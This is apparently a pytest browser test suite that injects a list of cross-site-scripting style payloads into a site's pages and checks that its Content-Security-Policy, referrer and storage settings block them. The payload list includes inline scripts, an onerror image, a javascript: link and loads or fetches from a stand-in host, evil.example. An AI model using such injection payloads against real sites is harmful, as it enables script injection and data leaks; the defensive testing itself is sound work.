"""If a text ever came through as markup, the browser would still refuse to run it."""

import re

import pytest

from tests.browser.kinds import INDICATOR, LONGEST_DASHBOARD, REAL
from tests.browser.visit import new_page, strangers, watch

pytestmark = pytest.mark.browser

POLICY = '<meta http-equiv="Content-Security-Policy" content="'
ATTACKS = {
    "a script in the page": "const made = document.createElement('script'); made.textContent = 'window.pwned = 1'; put(made);",
    "an event of an element": "const made = document.createElement('div'); made.innerHTML = '<img src=x: onerror=\"window.pwned = 1\">'; put(made);",
    "a script of another host": "const made = document.createElement('script'); made.src = 'https://evil.example/x.js'; put(made);",
    "an image of another host": "const made = document.createElement('img'); made.src = 'https://evil.example/x.png'; put(made);",
    "a frame": "const made = document.createElement('iframe'); made.src = 'https://evil.example/'; put(made);",
    "a style in the page": "const made = document.createElement('style'); made.textContent = '* { display: none }'; put(made);",
    "a style of an element": "const made = document.createElement('div'); made.innerHTML = '<p style=\"position: fixed\">x</p>'; put(made);",
    "an address that is a script": "const made = document.createElement('a'); made.href = 'javascript:window.pwned=1'; put(made); made.click();",
    "a request to another host": "fetch('https://evil.example/').catch(() => {});",
    "another base for all links": "const made = document.createElement('base'); made.href = 'https://evil.example/'; document.head.prepend(made);",
    "words that are run": "try { setTimeout('window.pwned = 1', 0) } catch {}",
}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("path", [REAL["home"], LONGEST_DASHBOARD])
def test_the_browser_refuses(browser, real, path, attack):
    page = new_page(browser)
    seen = watch(page)
    page.goto(real.address + path)
    page.evaluate(f"() => {{ const put = (made) => document.body.append(made); {ATTACKS[attack]} }}")
    page.wait_for_function("window.__refused.length > 0")
    page.wait_for_timeout(50)
    assert page.evaluate("window.pwned ?? null") is None, attack
    reached = [url for url in strangers(seen, real) if not any(url in failed for failed in seen.failed)]
    assert reached == [], attack
    page.context.close()


@pytest.mark.parametrize("site", ["real", "hostile", "empty", "sparse"])
def test_every_page_sets_the_policy_before_it_asks_for_anything(sites, site):
    for file in sorted(sites[site].folder.rglob("*.html")):
        html = file.read_text(encoding="utf-8")
        where = f"{site} {file.relative_to(sites[site].folder)}"
        assert html.count(POLICY) == 1, where
        first = re.search(r"<(script|link|img|style|body)\b", html)
        assert first is not None, where
        assert html.index(POLICY) < first.start(), where
        policy = html.partition(POLICY)[2].partition('"')[0]
        assert "default-src 'none'" in policy, where
        assert "unsafe-inline" not in policy, where
        assert "unsafe-eval" not in policy.replace("'wasm-unsafe-eval'", ""), where


@pytest.mark.parametrize("site", ["real", "hostile"])
def test_links_to_other_hosts_tell_them_no_page_and_open_nothing(sites, site):
    for path in sites[site].pages():
        html = sites[site].html(path)
        assert '<meta name="referrer" content="strict-origin-when-cross-origin">' in html, f"{site} /{path}"
        assert 'target="' not in html.partition("<body")[2], f"{site} /{path}"


def test_a_page_of_an_indicator_keeps_nothing_on_the_readers_device(browser, real):
    page = new_page(browser)
    page.goto(real.address + INDICATOR)
    assert page.context.cookies() == []
    assert page.evaluate("Object.keys(localStorage).length + Object.keys(sessionStorage).length") == 0
    page.context.close()
